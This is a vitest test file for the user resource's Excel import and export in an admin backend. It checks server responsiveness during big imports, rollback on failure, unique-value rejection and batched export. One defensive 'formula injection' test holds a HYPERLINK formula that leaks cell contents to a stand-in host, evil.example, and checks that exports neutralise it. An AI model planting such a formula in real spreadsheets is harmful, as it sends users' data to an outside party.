import ExcelJS from 'exceljs';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { userResource } from '../../modules/system/user/resource';
import { apiCall, auth, createTestApp, login, type TestApp } from '../../../test/helpers/test-app';
import { APP_TEST_DATABASE } from '../../../test/helpers/databases';
import type { ResourceHooks } from './types';

// Imports through the resource framework, on the user resource (the one with hooks before and after):
// the server keeps answering while a big file is imported, and a failed import leaves no row behind.

let t: TestApp;
let admin: string;
beforeAll(async () => {
  t = await createTestApp();
  admin = await login(t.app);
});
afterAll(() => t.close());

// The tests watch (and disturb) an import through the user resource's hooks; each puts them back.
const hooks = userResource.hooks as ResourceHooks;
const original = { beforeSave: hooks.beforeSave, afterImport: hooks.afterImport, afterImportReads: hooks.afterImportReads, afterImportStaged: hooks.afterImportStaged };
afterEach(() => Object.assign(hooks, original));

const HEADER = ['用户账号', '用户姓名', '工号', '性别', '手机号码', '电子邮件'];
let serial = 0; // phone numbers are unique across every file of this test
const userRow = (prefix: string, i: number) => [`${prefix}_${i}`, `批量${i}`, `${prefix}W${i}`, i % 2 ? '男' : '女', `137${String(serial++).padStart(8, '0')}`, `${prefix}${i}@example.com`];

async function xlsx(rows: unknown[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('用户');
  ws.addRow(HEADER);
  for (const r of rows) ws.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

function importFile(file: Buffer) {
  const boundary = '----anxue' + Math.random().toString(16).slice(2);
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="users.xlsx"\r\nContent-Type: application/octet-stream\r\n\r\n`;
  return t.app.inject({
    method: 'POST',
    url: '/api/sys/user/importExcel',
    payload: Buffer.concat([Buffer.from(head), file, Buffer.from(`\r\n--${boundary}--\r\n`)]),
    headers: { ...auth(admin), 'content-type': `multipart/form-data; boundary=${boundary}` },
  });
}

/** Everything an import writes: the users and their tenant memberships. */
async function counts() {
  const users = await t.db.selectFrom('sysUser').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
  const members = await t.db.selectFrom('sysUserTenant').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
  return { users: Number(users.n), members: Number(members.n) };
}

/** The lines of the error report an import answered (header first), cells from the first column. */
async function errorLines(res: { json(): any }): Promise<unknown[][]> {
  const file = await t.app.inject({ method: 'GET', url: `/api/sys/common/static/${res.json().result.fileUrl}`, headers: auth(admin) });
  const report = new ExcelJS.Workbook();
  await report.xlsx.load(file.rawPayload as any);
  return (report.worksheets[0].getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1));
}

describe('importing without holding the server', () => {
  it('answers another request while a 20,000-row import runs, before the import answers', { timeout: 180_000 }, async () => {
    const ROWS = 20_000;
    const file = await xlsx(Array.from({ length: ROWS }, (_, i) => userRow('bulk', i)));
    const events: string[] = [];
    let checked = 0;
    let rowsWhenAnswered = -1;
    let other: Promise<void> | undefined;
    hooks.beforeSave = async (row, ctx, mode) => {
      await original.beforeSave!(row, ctx, mode);
      if (mode !== 'import' || ++checked !== 1000) return;
      // The import is well under way (and on SQLite, before this change, held the only connection).
      events.push('other request sent');
      other = apiCall(t.app, admin, 'GET', '/sys/dict/getDictItems/sex').then((res) => {
        expect(res.body.success).toBe(true);
        rowsWhenAnswered = checked;
        events.push('other request answered');
      });
    };
    const res = await importFile(file);
    events.push('import answered');
    await other;
    expect(res.json()).toMatchObject({ success: true, code: 200, message: `文件导入完成，共${ROWS}行，成功${ROWS}行，失败0行` });
    expect(events).toEqual(['other request sent', 'other request answered', 'import answered']);
    // answered while rows were still being checked, not merely before the answer went out
    expect(rowsWhenAnswered).toBeGreaterThanOrEqual(1000);
    expect(rowsWhenAnswered).toBeLessThan(ROWS);
    const imported = await t.db.selectFrom('sysUser').select('id').where('username', 'like', 'bulk%').execute();
    expect(imported).toHaveLength(ROWS);
    // the users' text index took every imported row (on SQLite merged into one piece after a load this big)
    const found = await apiCall(t.app, admin, 'GET', '/sys/user/list?username=*bulk_1234*&pageSize=50');
    expect(found.body.result.records.map((r: { username: string }) => r.username).sort()).toEqual(['bulk_1234', ...Array.from({ length: 10 }, (_, i) => `bulk_1234${i}`)]);
  });

  it('lets a write sent during the import’s last transaction wait for it, then succeed, while reads answer', { timeout: 60_000 }, async () => {
    const events: string[] = [];
    let write: Promise<{ body: { success: boolean; message: string } }> | undefined;
    // related rows made in the last transaction, as for resources that read back what they imported
    hooks.afterImportStaged = false;
    hooks.afterImport = async (rows, ctx) => {
      if (!write) {
        // the import holds SQLite's write lock now (on PostgreSQL, its transaction is open)
        write = apiCall(t.app, admin, 'POST', '/sys/position/add', { code: 'DURING', name: '导入期间新增', postRank: '1' }).then((res) => {
          events.push('write answered');
          return res;
        });
        const read = await apiCall(t.app, admin, 'GET', '/sys/position/list?pageSize=5');
        expect(read.body.success).toBe(true);
        events.push('read answered');
      }
      await original.afterImport!(rows, ctx);
      events.push('rows linked');
    };
    const res = await importFile(await xlsx(Array.from({ length: 3000 }, (_, i) => userRow('during', i))));
    expect(res.json()).toMatchObject({ success: true, message: '文件导入完成，共3000行，成功3000行，失败0行' });
    // before, the write waited in SQLite's busy handler, holding the server, and failed with "database is locked"
    expect((await write!).body).toMatchObject({ success: true });
    expect(await t.db.selectFrom('sysPosition').select('name').where('code', '=', 'DURING').executeTakeFirst()).toEqual({ name: '导入期间新增' });
    expect(events).toContain('read answered');
    // on SQLite the write went in after the import's last rows (the import held the write lock); on the
    // other databases it goes in at once, on a connection of its own
    if (APP_TEST_DATABASE === 'SQLite') expect(events).toEqual(['read answered', 'rows linked', 'rows linked', 'write answered']);
  });

  it('makes the related rows while the file is read, where the resource writes them only as rows: a write meanwhile answers first, and refused rows get none', { timeout: 60_000 }, async () => {
    expect(hooks.afterImportStaged).toBe(true);
    const before = await counts();
    const events: string[] = [];
    let write: Promise<unknown> | undefined;
    hooks.afterImport = async (rows, ctx) => {
      await original.afterImport!(rows, ctx);
      events.push(`linked ${rows.length}`);
      write ??= apiCall(t.app, admin, 'POST', '/sys/position/add', { code: 'STAGED', name: '导入期间新增2', postRank: '1' }).then((res) => {
        expect(res.body.success).toBe(true);
        events.push('write answered');
      });
    };
    const rows = Array.from({ length: 2500 }, (_, i) => userRow('staged', i));
    rows[1200] = [...rows[10]]; // repeats row 12 of the file (a header, then rows from 2)
    rows[1200][4] = `137${String(serial++).padStart(8, '0')}`;
    rows[1200][5] = 'staged-repeat@example.com';
    const res = await importFile(await xlsx(rows));
    events.push('import answered');
    expect(res.json()).toMatchObject({ success: true, message: '文件导入完成，共2500行，成功2499行，失败1行' });
    // a chunk's rows as the file is read (not read back in larger chunks at the end), the repeat left out
    const linked = events.filter((e) => e.startsWith('linked')).map((e) => Number(e.slice(7)));
    expect(linked.length).toBe(3);
    expect(Math.max(...linked)).toBe(1000);
    expect(linked.reduce((a, b) => a + b)).toBe(2499);
    // no lock was held while the file was read: the write went in before the import's end, on every database
    expect(events.indexOf('write answered')).toBeLessThan(events.indexOf('import answered'));
    expect(await counts()).toEqual({ users: before.users + 2499, members: before.members + 2499 });
    const orphans = await t.db.selectFrom('sysUserTenant as ut').leftJoin('sysUser as u', 'u.id', 'ut.userId').select('ut.id').where('u.id', 'is', null).execute();
    expect(orphans).toEqual([]);
  });

  // SQLite has one writer: there every write waits for the import's last transaction (the test above)
  it.skipIf(APP_TEST_DATABASE === 'SQLite')('adds a user while an import’s transaction is open, and counts both in the permission epoch', { timeout: 60_000 }, async () => {
    const epoch = async () => Number((await t.db.selectFrom('sysPermEpoch').select('epoch').where('id', '=', 1).executeTakeFirstOrThrow()).epoch);
    const before = await epoch();
    const events: string[] = [];
    let chunks = 0;
    hooks.afterImport = async (rows, ctx) => {
      // this chunk's users join the tenant: a change the permission epoch counts
      await original.afterImport!(rows, ctx);
      if (++chunks === 2) {
        // Adding a user joins the tenant too. Before, the import's first chunk locked the epoch's row until
        // its commit, so this add waited for the import, which waits here for the add: it never answered.
        const added = await apiCall(t.app, admin, 'POST', '/sys/user/add', { username: 'added_during', realname: '导入期间新增', password: 'During#2026x', confirmPassword: 'During#2026x' });
        expect(added.body.success).toBe(true);
        events.push('user added');
      }
      events.push('rows linked');
    };
    const res = await importFile(await xlsx(Array.from({ length: 3000 }, (_, i) => userRow('epoch', i))));
    expect(res.json()).toMatchObject({ success: true, message: '文件导入完成，共3000行，成功3000行，失败0行' });
    expect(events).toEqual(['rows linked', 'user added', 'rows linked', 'rows linked']);
    // the add counted once, the import once at its end (not once per chunk)
    expect(await epoch()).toBe(before + 2);
  });

  it('writes nothing when an import fails midway, after several chunks were written', { timeout: 60_000 }, async () => {
    const before = await counts();
    let checked = 0;
    let visibleMidway = -1;
    hooks.beforeSave = async (row, ctx, mode) => {
      await original.beforeSave!(row, ctx, mode);
      // the first row after the second chunk went to be written, while it is being written
      if (mode !== 'import' || ++checked !== 2001) return;
      // chunks are written by now, yet none is in the real table for anyone else to see (nor would be
      // after a crash at this point); the chunk being written ends inside the transaction that rolls back
      visibleMidway = (await t.db.selectFrom('sysUser').select('id').where('username', 'like', 'midway%').execute()).length;
      throw new Error('disk on fire');
    };
    const res = await importFile(await xlsx(Array.from({ length: 3000 }, (_, i) => userRow('midway', i))));
    expect(res.json()).toMatchObject({ success: false });
    expect(visibleMidway).toBe(0);
    expect(await counts()).toEqual(before);
  });

  it('writes nothing when writing the related rows fails at the end', { timeout: 60_000 }, async () => {
    const before = await counts();
    const written: string[] = [];
    // the hook reads the usernames: it says so, or the rows come back with their ids only
    hooks.afterImportReads = ['username'];
    hooks.afterImport = async (rows, ctx) => {
      // the related rows of every chunk before the last are written, then the last one fails
      if (rows.some((r) => r.username === 'late_4999')) throw new Error('membership table gone');
      await original.afterImport!(rows, ctx);
      written.push(...rows.map((r) => String(r.username)));
    };
    const res = await importFile(await xlsx(Array.from({ length: 5000 }, (_, i) => userRow('late', i))));
    expect(res.json()).toMatchObject({ success: false });
    expect(written.length).toBeGreaterThanOrEqual(4000);
    expect(await counts()).toEqual(before);
  });

  it('says 导入失败 with the counts, and still offers the error file, when no row could be written', async () => {
    const before = await counts();
    const rows = [userRow('allbad', 0), userRow('allbad', 1)].map((r) => ((r[3] = '未知'), r));
    const res = await importFile(await xlsx(rows));
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ success: false, code: 500, message: '导入失败：文件导入完成，共2行，成功0行，失败2行' });
    expect(res.json().result.msg).toBe('总上传行数：2，已导入行数：0，错误行数：2');
    expect(await counts()).toEqual(before);

    const empty = await importFile(await xlsx([]));
    expect(empty.json()).toMatchObject({ success: false, code: 500, message: '导入失败：文件导入完成，共0行，成功0行，失败0行' });
  });

  it('imports the good rows of a big file and reports the one bad row, as before', { timeout: 60_000 }, async () => {
    const rows = Array.from({ length: 3000 }, (_, i) => userRow('mixed', i));
    rows[1700][3] = '未知'; // sex outside the dictionary
    const res = await importFile(await xlsx(rows));
    expect(res.json()).toMatchObject({ success: true, code: 201, message: '文件导入完成，共3000行，成功2999行，失败1行' });
    expect(res.json().result.msg).toBe('总上传行数：3000，已导入行数：2999，错误行数：1');
    const lines = await errorLines(res);
    expect(lines).toHaveLength(2);
    expect(lines[1][0]).toBe(1702);
    expect(lines[1][lines[1].length - 1]).toBe('性别必须是数字'); // the message of the type check, unchanged
  });

  it('never duplicates a unique value taken by another request during the import', { timeout: 60_000 }, async () => {
    let checked = 0;
    let sideInsert: Promise<unknown> | undefined;
    hooks.beforeSave = async (row, ctx, mode) => {
      await original.beforeSave!(row, ctx, mode);
      // mixed: row 10's chunk was checked long ago; someone else now takes its account name
      if (mode === 'import' && ++checked === 2600) {
        sideInsert = t.db
          .insertInto('sysUser')
          .values({ id: 'race0000000000000000000000000001', username: 'race_10', realname: '抢先', password: 'x', status: 1 })
          .execute()
          .then(
            () => 'inserted',
            () => 'refused',
          );
      }
    };
    const res = await importFile(await xlsx(Array.from({ length: 3000 }, (_, i) => userRow('race', i))));
    const side = await sideInsert;
    const holders = await t.db.selectFrom('sysUser').select('realname').where('username', '=', 'race_10').execute();
    expect(holders).toHaveLength(1);
    const imported = await t.db.selectFrom('sysUser').select('id').where('username', 'like', 'race%').execute();
    if (side === 'inserted' && res.json().success) {
      // the other insert committed before the import's check of row 10's chunk had read (a busy
      // database: the check is asked when the chunk is read, and may run later): an ordinary taken value
      expect(res.json()).toMatchObject({ message: '文件导入完成，共3000行，成功2999行，失败1行' });
      const lines = await errorLines(res);
      expect(lines.slice(1).map((l) => [l[0], l[l.length - 1]])).toEqual([[12, '用户账号“race_10”已存在']]);
      expect(holders[0].realname).toBe('抢先');
      expect(imported).toHaveLength(3000);
    } else if (side === 'inserted') {
      // SQLite: the import notices at its commit; MariaDB: the insert came between the chunk's check and
      // its write, and the unique index refused the write. Either way nothing is written
      expect(res.json()).toMatchObject({ success: false, message: '用户账号“race_10”在导入期间已被占用，本次导入未写入任何数据，请重新导入' });
      expect(imported).toHaveLength(1);
    } else {
      // PostgreSQL: the other insert waited on the unique index and lost
      expect(res.json()).toMatchObject({ success: true, message: '文件导入完成，共3000行，成功3000行，失败0行' });
      expect(imported).toHaveLength(3000);
    }
  });
});

describe('refusing unique values a batch at a time', () => {
  it('refuses rows repeating an earlier row of the file, and values held by active or deleted users, each with its reason', { timeout: 60_000 }, async () => {
    // one active holder and one in the recycle bin
    for (const [username, workNo, delFlag] of [['uq_active', 'UQW-A', 0], ['uq_binned', 'UQW-B', 1]] as const) {
      await t.db.insertInto('sysUser').values({ id: `uq${username.padEnd(30, '0')}`, username, realname: username, workNo, password: 'x', status: 1, delFlag }).execute();
    }
    const rows = Array.from({ length: 1200 }, (_, i) => userRow('uq', i));
    rows[3][0] = 'uq_1'; // repeats row 2's account in the same chunk
    rows[900][2] = 'uqW10'; // repeats row 11's work number, two chunks later
    rows[600][0] = 'uq_active';
    rows[700][0] = 'uq_binned';
    rows[800][2] = 'UQW-B';
    rows[1100][0] = 'uq_950'; // repeats row 952's account in the next chunk (1,000 rows), written meanwhile or not
    const before = await counts();
    const res = await importFile(await xlsx(rows));
    expect(res.json()).toMatchObject({ success: true, code: 201, message: '文件导入完成，共1200行，成功1194行，失败6行' });
    const lines = await errorLines(res);
    expect(lines.slice(1).map((l) => [l[0], l[l.length - 1]])).toEqual([
      [5, '用户账号“uq_1”在文件中重复'],
      [602, '用户账号“uq_active”已存在'],
      [702, '用户账号“uq_binned”已被回收站中的用户占用'],
      [802, '工号“UQW-B”已被回收站中的用户占用'],
      [902, '工号“uqW10”在文件中重复'],
      [1102, '用户账号“uq_950”在文件中重复'],
    ]);
    expect(await counts()).toEqual({ users: before.users + 1194, members: before.members + 1194 });
    // the imported users sign in to the importer's tenant, and the first of each repeat is the one kept
    const kept = await t.db.selectFrom('sysUser').select(['realname', 'loginTenantId']).where('username', '=', 'uq_1').execute();
    expect(kept).toEqual([{ realname: '批量1', loginTenantId: 1000 }]);
  });
});

describe('formula injection', () => {
  it('exports text that starts like a formula with a leading quote, and imports it back as it was', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
    const add = await apiCall(t.app, admin, 'POST', '/sys/user/add', { username: 'formula_user', realname: evil, password: 'Formula#2026', confirmPassword: 'Formula#2026', telephone: '-5' });
    expect(add.body.success, JSON.stringify(add.body)).toBe(true);
    const res = await t.app.inject({ method: 'GET', url: '/api/sys/user/exportXls?username=formula_user', headers: auth(admin) });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as any);
    const sheet = wb.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = (title: string) => sheet.getRow(2).getCell(header.indexOf(title) + 1);
    expect(cell('用户姓名').value).toBe(`'${evil}`);
    expect(cell('用户姓名').type).toBe(ExcelJS.ValueType.String);
    expect(cell('座机').value).toBe("'-5");
    expect(cell('用户账号').value).toBe('formula_user');

    // the same file back, under another account name: the quote we added is gone again
    cell('用户账号').value = 'formula_back';
    for (const title of ['工号', '手机号码', '电子邮件']) cell(title).value = null;
    const back = await importFile(Buffer.from(await wb.xlsx.writeBuffer()));
    expect(back.json(), back.body).toMatchObject({ success: true, code: 200 });
    const row = await t.db.selectFrom('sysUser').select(['realname', 'telephone']).where('username', '=', 'formula_back').executeTakeFirstOrThrow();
    expect(row).toEqual({ realname: evil, telephone: '-5' });
  });
});

describe('exporting a list of several batches', () => {
  it('writes every row once, in the list order, each with its texts and department', { timeout: 120_000 }, async () => {
    const ROWS = 4_500; // three batches of the export, the next read while one is written
    const res = await importFile(await xlsx(Array.from({ length: ROWS }, (_, i) => userRow('many', i))));
    expect(res.json()).toMatchObject({ success: true });
    // one user of the last batch in a department
    const user = await t.db.selectFrom('sysUser').select('id').where('username', '=', 'many_999').executeTakeFirstOrThrow();
    const dept = await t.db.selectFrom('sysDepart').select(['id', 'departName']).where('delFlag', '=', '0').orderBy('orgCode').executeTakeFirstOrThrow();
    await t.db.insertInto('sysUserDepart').values({ id: 'manydept000000000000000000000001', userId: user.id, depId: dept.id }).execute();
    const file = await t.app.inject({ method: 'GET', url: '/api/sys/user/exportXls?username=many_*&column=username&order=asc', headers: auth(admin) });
    expect(file.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file.rawPayload as any);
    const lines = (wb.worksheets[0].getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1));
    const header = lines[0] as string[];
    const rows = lines.slice(1);
    const account = header.indexOf('用户账号');
    const sex = header.indexOf('性别');
    const depart = header.indexOf('部门');
    expect(rows.map((r) => r[account])).toEqual(Array.from({ length: ROWS }, (_, i) => `many_${i}`).sort());
    const byAccount = new Map(rows.map((r) => [r[account], r]));
    expect(byAccount.get('many_1')![sex]).toBe('男');
    expect(byAccount.get('many_4498')![sex]).toBe('女');
    expect(byAccount.get('many_999')![depart]).toBe(dept.departName);
    expect(rows.filter((r) => (r[depart] ?? '') !== '')).toHaveLength(1);
  });
});
